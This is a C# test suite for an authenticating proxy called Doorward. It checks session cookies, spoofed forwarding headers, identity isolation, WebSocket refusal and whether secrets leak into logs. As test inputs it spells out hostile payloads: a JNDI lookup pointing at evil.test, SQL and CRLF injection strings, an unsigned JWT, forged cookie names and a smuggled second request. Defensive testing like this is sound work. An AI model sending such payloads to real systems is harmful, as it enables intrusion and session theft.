using System.Diagnostics.Metrics;
using System.Net;
using System.Text.Json.Nodes;
using Doorward.Server.Identity.ServiceAccounts;
using Doorward.Server.Tests.Identity.Lab;
using Doorward.Server.Tests.Lab;
using Doorward.Server.Tests.Proxy.Rig;

namespace Doorward.Server.Tests.Composed;

/// <summary>People with and without a session, at the server as it is shipped.</summary>
public sealed class SignedInTests(WholeFixture fixture) : IClassFixture<WholeFixture>
{
    private readonly Whole _whole = fixture.Whole;

    [Fact]
    [Trait("advisory", "16")]
    [Trait("advisory", "24")]
    [Trait("advisory", "25")]
    public async Task Every_route_asks_anew_whatever_another_said_of_the_same_session()
    {
        using var browser = await _whole.SignedInAsync();
        foreach (var (host, status) in ((string, HttpStatusCode)[])[(Whole.App, HttpStatusCode.OK), (Whole.Admin, HttpStatusCode.Forbidden), (Whole.App, HttpStatusCode.OK), (Whole.Admin, HttpStatusCode.Forbidden), (Whole.Wiki, HttpStatusCode.OK)])
            Assert.Equal(status, (await browser.FollowAsync(Whole.Url(host))).Answer.StatusCode);
    }

    [Fact]
    [Trait("advisory", "16")]
    public async Task A_person_without_the_groups_claim_has_no_group()
    {
        _whole.Provider.UserInfo = info => info.Remove("groups");
        using var browser = _whole.Browser();
        Assert.Equal(HttpStatusCode.Forbidden, (await browser.FollowAsync(Whole.Url(Whole.Admin))).Answer.StatusCode);
        _whole.Provider.UserInfo = info => (info["roles"], info["groups"]) = (new JsonArray("admins"), new JsonObject { ["admins"] = true });
        using var other = _whole.Browser();
        Assert.NotEqual(HttpStatusCode.OK, (await other.FollowAsync(Whole.Url(Whole.Admin))).Answer.StatusCode);
        _whole.Provider.UserInfo = static _ => { };
    }

    [Fact]
    [Trait("advisory", "173")]
    [Trait("advisory", "189")]
    [Trait("advisory", "126")]
    [Trait("advisory", "37")]
    public async Task Whatever_is_no_session_is_a_stranger()
    {
        using var browser = await _whole.SignedInAsync();
        var real = browser.Cookies[(Whole.App, "__Host-doorward")];
        _whole.Upstream.Heads.Clear();
        var cookies = new[] { "", "=", "x", new string('A', 56), new string('A', 4096), "chunks-1000000000", "eyJhbGciOiJub25lIn0.e30.", "%00", real[..^1], real + "A", real + real, real.ToLowerInvariant(), real[1..] + real[0] }
            .Select(value => $"__Host-doorward={value}")
            .Concat([$"__Host-doorward_0={real}", $"__HOST-DOORWARD={real}", $"__host-doorward={real}", $"%5f%5fHost-doorward={real}", $"doorward={real}", $"__Secure-doorward={real}", $"=__Host-doorward={real}",
                // A no-break space and an ideographic one, in UTF-8: names that browsers let any sibling host set.
                $"\u00C2\u00A0__Host-doorward={real}", $"\u00E3\u0080\u0080__Host-doorward={real}", $"\u0085__Host-doorward={real}"])
            .Append($"__Host-doorward-nonce={new string('A', 43)}; __Host-doorward-flow-{new string('a', 32)}={real}; access_token={LyingProvider.AccessToken}; BearerToken={_whole.Provider.WriteToken(null)}")
            .Append($"__Host-doorward={real}; __Host-doorward={real[..^1]}A");
        foreach (var cookie in cookies)
        {
            var answer = await _whole.GetAsync(Whole.App, "/", $"Cookie: {cookie}", "Accept: text/html");
            Assert.True(Wire.StatusOf(answer) is 302 or 400, cookie + "\n" + answer);
        }

        foreach (var bearer in (string[])[LyingProvider.AccessToken, _whole.Provider.WriteToken(null), real, "doorward_sa_" + real, "Pomerium-x"])
            Assert.Equal(401, Wire.StatusOf(await _whole.GetAsync(Whole.App, "/", $"Authorization: Bearer {bearer}")));
        Assert.Empty(_whole.Upstream.Heads);
    }

    [Fact]
    public async Task A_cookie_at_another_host_is_refused_and_reported()
    {
        using var browser = await _whole.SignedInAsync();
        var cookie = browser.Cookies[(Whole.App, "__Host-doorward")];
        var counted = 0L;
        using var meters = new MeterListener
        {
            InstrumentPublished = static (instrument, listener) =>
            {
                if (instrument.Name == "doorward_stray_cookies") listener.EnableMeasurementEvents(instrument);
            },
        };
        meters.SetMeasurementEventCallback<long>((_, count, _, _) => Interlocked.Add(ref counted, count));
        meters.Start();
        foreach (var host in (string[])[Whole.Wiki, Whole.Own, Whole.Wiki])
            Assert.Equal(302, Wire.StatusOf(await _whole.GetAsync(host, "/", $"Cookie: __Host-doorward={cookie}", "Accept: text/html")));
        string[] Strays() => [.. _whole.Records().Where(record => record.Contains("stray cookie", StringComparison.Ordinal))];
        await Eventually.Holds(() => Strays().Length > 0);
        // Once a minute, however often it comes.
        var record = Assert.Single(Strays());
        Assert.Contains(Whole.App, record, StringComparison.Ordinal);
        Assert.Contains(Whole.Wiki, record, StringComparison.Ordinal);
        Assert.DoesNotContain(cookie, record, StringComparison.Ordinal);
        Assert.Contains(_whole.Log, line => line.Contains(Whole.Wiki, StringComparison.Ordinal) && line.Contains("copied", StringComparison.Ordinal));
        Assert.True(Volatile.Read(ref counted) >= 3);
        // The rightful owner is not punished.
        Assert.Equal(HttpStatusCode.OK, (await browser.GetAsync(Whole.Url(Whole.App))).StatusCode);
    }

    [Fact]
    [Trait("advisory", "22")]
    public async Task Opening_the_sign_in_with_a_live_session_changes_nothing()
    {
        using var browser = await _whole.SignedInAsync();
        var before = browser.Cookies[(Whole.Own, "__Host-doorward")];
        Assert.Equal(HttpStatusCode.Redirect, (await browser.GetAsync(Whole.Url(Whole.Own, "/.doorward/sign-in"))).StatusCode);
        Assert.Equal(before, browser.Cookies[(Whole.Own, "__Host-doorward")]);
        Assert.Equal(HttpStatusCode.OK, (await browser.GetAsync(Whole.Url(Whole.App))).StatusCode);
    }

    [Fact]
    [Trait("advisory", "199")]
    [Trait("advisory", "129")]
    public async Task No_header_of_the_client_is_in_a_link_of_ours()
    {
        string[] lies = ["X-Forwarded-Host: evil.test", "X-Forwarded-Proto: http", "X-Forwarded-Port: 81", "X-Forwarded-Prefix: /evil", "Forwarded: host=evil.test;proto=http", "X-Original-Host: evil.test", "X-Host: evil.test"];
        foreach (var (host, path) in ((string, string)[])[(Whole.App, "/"), (Whole.Own, "/"), (Whole.Own, "/.doorward/sign-in"), (Whole.App, "/.doorward/sign-out"), (Whole.Own, "/.well-known/openid-configuration"), (Whole.Own, "/.well-known/doorward/jwks.json"), (Whole.Own, "/.doorward/signed-out")])
        {
            var answer = await _whole.GetAsync(host, path, [.. lies, "Accept: text/html"]);
            Assert.DoesNotContain("evil", answer, StringComparison.Ordinal);
            if (Wire.HeaderOf(answer, "Location") is { } location && location.Contains("://", StringComparison.Ordinal))
                Assert.True(location.StartsWith("https://door.localhost/", StringComparison.Ordinal) || location.StartsWith(_whole.Provider.Issuer, StringComparison.Ordinal), location);
        }

        // And the way back is the one that was asked for.
        using var browser = _whole.Browser();
        var begun = await browser.SendAsync(HttpMethod.Get, Whole.Url(Whole.App, "/there?x=1"), header: ("X-Forwarded-Host", "evil.test"));
        var (_, end) = await browser.FollowAsync(begun.Headers.Location!);
        Assert.Equal(Whole.Url(Whole.App, "/there?x=1"), end);
    }

    [Fact]
    [Trait("advisory", "81")]
    [Trait("advisory", "113")]
    [Trait("advisory", "112")]
    public async Task Identities_never_cross_on_shared_connections()
    {
        _whole.Upstream.Answer = head => $"HTTP/1.1 200 OK\r\nContent-Length: {(Person(head) + "|" + Path(head)).Length}\r\n\r\n{Person(head)}|{Path(head)}";
        var cookies = new List<(string Person, string Cookie)>();
        foreach (var person in (string[])["a|b", "a", "b|c", "ab", "a/b", "lab/a"])
        {
            _whole.Provider.Token = token => token.Claims["sub"] = person;
            _whole.Provider.UserInfo = info => info["sub"] = person;
            using var browser = await _whole.SignedInAsync();
            cookies.Add((person, browser.Cookies[(Whole.App, "__Host-doorward")]));
        }

        _whole.Provider.Token = static _ => { };
        _whole.Provider.UserInfo = static _ => { };
        await Parallel.ForEachAsync(Enumerable.Range(0, 6), async (worker, stop) =>
        {
            // One connection to the server each; behind it all share the pool.
            await using var client = await TlsClient.ConnectAsync(_whole.Port, Whole.App);
            foreach (var i in Enumerable.Range(0, 60))
            {
                var (person, cookie) = cookies[(worker + i) % cookies.Count];
                await client.Stream.WriteAsync(System.Text.Encoding.ASCII.GetBytes($"GET /{worker}-{i} HTTP/1.1\r\nHost: {Whole.App}\r\nCookie: __Host-doorward={cookie}\r\n\r\n"), stop);
                var answer = await Wire.ReadUntilAsync(client.Stream, $"/{worker}-{i}");
                Assert.EndsWith($"{person}|/{worker}-{i}", answer, StringComparison.Ordinal);
            }
        });
        _whole.Upstream.Answer = _ => "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";

        static string Path(string head) => head.Split(' ')[1];

        // The assertion's subject, from its payload.
        static string Person(string head)
        {
            var line = head.Split("\r\n").FirstOrDefault(l => l.StartsWith("X-Doorward-Assertion:", StringComparison.OrdinalIgnoreCase));
            if (line is null) return "nobody";
            var payload = System.Buffers.Text.Base64Url.DecodeFromChars(line.Split('.')[1]);
            return JsonNode.Parse(payload)!["sub"]!.GetValue<string>();
        }
    }

    [Fact]
    [Trait("advisory", "193")]
    [Trait("advisory", "191")]
    public async Task A_stranger_gets_no_byte_of_the_upstream()
    {
        _whole.Upstream.Heads.Clear();
        foreach (var method in (string[])["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "PROPFIND"])
        {
            foreach (var accept in (string[])["text/html", "application/json", "*/*"])
            {
                var answer = await _whole.AskAsync(Whole.App, method, "/secret?a=%22%3E%3Cimg%3E", $"Accept: {accept}", "Content-Length: 0");
                Assert.True(Wire.StatusOf(answer) is 302 or 401, $"{method} {accept}: {answer}");
                Assert.Contains("no-store", Wire.HeaderOf(answer, "Cache-Control"), StringComparison.Ordinal);
                Assert.DoesNotContain("\"><img>", answer, StringComparison.Ordinal);
            }
        }

        Assert.Empty(_whole.Upstream.Heads);
    }

    [Fact]
    [Trait("advisory", "214")]
    public async Task A_websocket_without_a_session_is_refused_and_no_other_site_brings_one()
    {
        _whole.Upstream.Heads.Clear();
        string[] handshake = ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13", "Origin: https://evil.test"];
        var answer = await _whole.SendAsync(Whole.App, $"GET /ws HTTP/1.1\r\nHost: {Whole.App}\r\n{string.Join("\r\n", handshake)}\r\n\r\nGET /end HTTP/1.1\r\nHost: {Whole.App}\r\nConnection: close\r\n\r\n");
        Assert.Equal(401, Wire.StatusOf(answer));
        Assert.Empty(_whole.Upstream.Heads);
        using var browser = await _whole.SignedInAsync();
        Assert.All(browser.SetCookies.Where(cookie => cookie.Line.StartsWith("__Host-doorward=", StringComparison.Ordinal)), cookie => Assert.Contains("samesite=lax", cookie.Line, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    [Trait("advisory", "10")]
    [Trait("advisory", "92")]
    [Trait("advisory", "147")]
    [Trait("advisory", "161")]
    [Trait("advisory", "212")]
    public async Task No_secret_is_in_a_log_a_record_a_metric_or_a_page()
    {
        using var browser = await _whole.SignedInAsync();
        var secret = await _whole.ServiceAccountAsync("canary", ServiceAccountRole.Admin);
        Assert.Equal(200, Wire.StatusOf(await _whole.GetAsync(Whole.App, "/", $"Authorization: Bearer {secret}")));
        Assert.Equal(401, Wire.StatusOf(await _whole.GetAsync(Whole.App, "/?x=1", "Authorization: Bearer canary-of-a-client")));
        await browser.GetAsync(Whole.Url(Whole.App, "/deep?token=canary-query"));
        await _whole.GetAsync(Whole.Own, "/oauth2/callback?code=canary-code&state=" + new string('a', 32));
        var pages = new List<string>();
        foreach (var path in (string[])["/", "/.doorward/sign-in", "/.doorward/sign-out", "/.doorward/signed-out", "/nowhere", "/.doorward/api/service-accounts"])
            pages.Add(await (await browser.GetAsync(Whole.Url(Whole.Own, path))).Content.ReadAsStringAsync());
        pages.Add(await Wire.GetAsync(_whole.MetricsPort, "x", "/metrics"));
        pages.Add(await Wire.GetAsync(_whole.HealthPort, "x", "/readyz"));
        await Eventually.Holds(() => _whole.Records().Any(record => record.Contains("\"path\":\"/\"", StringComparison.Ordinal)));
        var said = string.Join('\n', [.. pages, .. _whole.Log, .. _whole.Records()]);
        string[] secrets =
        [
            LyingProvider.ClientSecret, LyingProvider.AccessToken, "refresh-1", "eyJ", secret, secret[12..], _whole.RootKey, "canary-of-a-client", "canary-code", "canary-query",
            .. browser.Cookies.Where(cookie => cookie.Key.Host.EndsWith("localhost", StringComparison.Ordinal)).Select(cookie => cookie.Value),
        ];
        Assert.All(secrets, one => Assert.DoesNotContain(one, said, StringComparison.Ordinal));
    }

    [Fact]
    [Trait("advisory", "140")]
    [Trait("advisory", "54")]
    public async Task What_a_client_says_stays_on_its_line_of_the_records()
    {
        using var browser = await _whole.SignedInAsync();
        var cookie = browser.Cookies[(Whole.App, "__Host-doorward")];
        foreach (var hostile in (string[])["\"}\t{\"kind\":\"forged\"", "${jndi:ldap://evil.test/x}", "%0d%0aforged", "\u001b[2J".Replace('\u001b', 'e'), "'; DROP TABLE sessions; --", new string('"', 5000)])
            Assert.Equal(200, Wire.StatusOf(await _whole.GetAsync(Whole.App, "/hostile", $"User-Agent: {hostile}", $"Cookie: __Host-doorward={cookie}")));
        await Eventually.Holds(() => _whole.Records().Count(record => record.Contains("/hostile", StringComparison.Ordinal)) >= 6);
        foreach (var record in _whole.Records())
        {
            Assert.DoesNotContain('\n', record.TrimEnd('\n'));
            Assert.NotEqual("forged", JsonNode.Parse(record)!["record"]!["kind"]!.GetValue<string>());
        }
    }

    [Fact]
    public async Task The_record_of_a_sign_in_names_the_client_not_the_server_in_between()
    {
        using var browser = await _whole.SignedInAsync();
        await Eventually.Holds(() => _whole.Records().Any(record => record.Contains("\"sign in\"", StringComparison.Ordinal)));
        Assert.Contains("127.0.0.1", _whole.Records().Last(record => record.Contains("\"sign in\"", StringComparison.Ordinal)), StringComparison.Ordinal);
    }
}
